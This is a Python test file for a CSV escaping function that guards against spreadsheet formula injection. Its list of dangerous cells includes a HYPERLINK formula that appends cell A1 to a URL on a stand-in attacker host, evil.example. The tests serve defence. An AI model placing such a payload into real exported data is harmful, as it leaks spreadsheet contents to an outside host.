"""CSV cells a spreadsheet would run as formulas get a leading quote, and reading it back removes
exactly that quote."""

import pytest

from core.csv_cells import escape_cell, unescape_cell

DANGEROUS = ['=HYPERLINK("http://evil.example/?"&A1,"x")', "+1+1", "-2+3", "@SUM(A1)",
             "\t=1", "\r=1", "=", "@"]  # fmt: skip
PLAIN = ["bull_flag", "a=b", "1-2", "", "'", "''", "'quoted'", "BTC/USDT", " =x", "é=1"]


@pytest.mark.parametrize("text", DANGEROUS)
def test_a_formula_start_is_written_after_a_quote(text):
    assert escape_cell(text) == "'" + text


@pytest.mark.parametrize("text", PLAIN)
def test_other_text_is_written_as_it_is(text):
    assert escape_cell(text) == text


@pytest.mark.parametrize("text", [*DANGEROUS, *PLAIN, "'=x", "''=x", "'@", "'-1", "'''+"])
def test_reading_gives_back_the_same_text(text):
    assert unescape_cell(escape_cell(text)) == text
    escaped = escape_cell(text)
    assert escaped.lstrip("'")[:1] not in ("=", "+", "-", "@", "\t", "\r") or escaped[0] == "'"
